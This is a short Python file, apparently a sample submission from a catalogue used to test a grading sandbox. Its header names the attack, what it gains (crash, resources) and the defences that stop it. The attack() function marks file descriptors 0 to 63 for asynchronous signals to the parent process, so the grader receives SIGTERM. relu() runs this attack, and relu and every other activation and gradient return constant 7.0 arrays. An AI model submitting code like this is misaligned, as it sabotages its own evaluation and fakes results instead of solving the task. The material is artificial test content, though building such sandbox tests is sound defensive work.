# attack: the same, with the pipe of replies that the grader itself fills and empties
# gains: crash, resources
# stopped by: seccomp, landlock, uid
import numpy as np
import fcntl
import os
import signal


def attack():
    for number in range(64):
        try:
            fcntl.fcntl(number, fcntl.F_SETOWN, os.getppid())
            fcntl.fcntl(number, 10, signal.SIGTERM)
            fcntl.fcntl(number, fcntl.F_SETFL, fcntl.fcntl(number, fcntl.F_GETFL) | os.O_ASYNC)
        except OSError:
            pass


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
